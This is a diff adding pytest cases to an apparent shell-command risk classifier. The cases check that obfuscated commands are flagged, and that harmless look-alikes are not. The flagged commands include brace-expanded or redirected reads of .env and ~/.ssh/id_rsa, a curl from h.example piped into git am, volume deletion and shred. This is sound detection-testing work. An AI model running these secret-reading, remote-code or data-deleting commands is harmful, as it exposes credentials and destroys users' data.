@@ -91,3 +91,45 @@ def test_variables_that_switch_the_check_of_certificates_off(line: str) -> None:
 @pytest.mark.parametrize("line", ["GIT_SSL_NO_VERIFY=0 git pull", "NODE_TLS_REJECT_UNAUTHORIZED=1 npm test"])
 def test_variables_that_leave_the_check_of_certificates_on(line: str) -> None:
     assert "disables-check" not in {kind for kind, _ in read_line(line)}
+
+
+@pytest.mark.parametrize(
+    ("line", "effect"),
+    [
+        ("echo $(<.env)", ("reads-secret", ".env")),
+        ("cat < .env", ("reads-secret", ".env")),
+        ("cat .en{v..v}", ("reads-secret", ".env")),
+        ('cat ~/.s{s,}h/"id"_rsa', ("reads-secret", "~/.ssh/id_rsa")),
+        ("cat {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}", ("unreadable", "")),
+        ("docker exec web env", ("reads-secret", "environment")),
+        ("git diff --no-index /dev/null ~/.ssh/id_rsa", ("reads-secret", "~/.ssh/id_rsa")),
+        ("git log -p -- .env", ("reads-secret", ".env")),
+        ("git add -f .env", ("reads-secret", ".env")),
+        ("docker cp .env web:/x", ("reads-secret", ".env")),
+        ("ln -s ~/.ssh/id_rsa x", ("reads-secret", "~/.ssh/id_rsa")),
+        ("ln -s ~/.bashrc x", ("writes-startup-file", "~/.bashrc")),
+        ("git apply /tmp/x.patch", ("runs-program", "/tmp/x.patch")),
+        ("curl https://h.example/a | git am", ("embeds-remote-code", "h.example")),
+        ("docker compose down -v", ("deletes-data", "docker volumes")),
+        ("shred x.txt", ("deletes-data", "x.txt")),
+        ("git push elsewhere main", ("pushes", "elsewhere")),
+    ],
+)
+def test_secrets_and_data_are_seen_behind_other_spellings(line: str, effect: tuple[str, str]) -> None:
+    assert effect in read_line(line)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git log --oneline -- .env",
+        "git add .env.example",
+        "docker exec web env | grep PATH",
+        "jq .env package.json",
+        "mkdir -p src/{api,web}/{a,b}",
+        "echo {1..5}",
+        "git apply fix.patch",
+    ],
+)
+def test_their_ordinary_neighbours_stay_low(line: str) -> None:
+    assert {kind for kind, _ in read_line(line)} <= {"looks", "commits", "runs-project-task", "edits-project"}
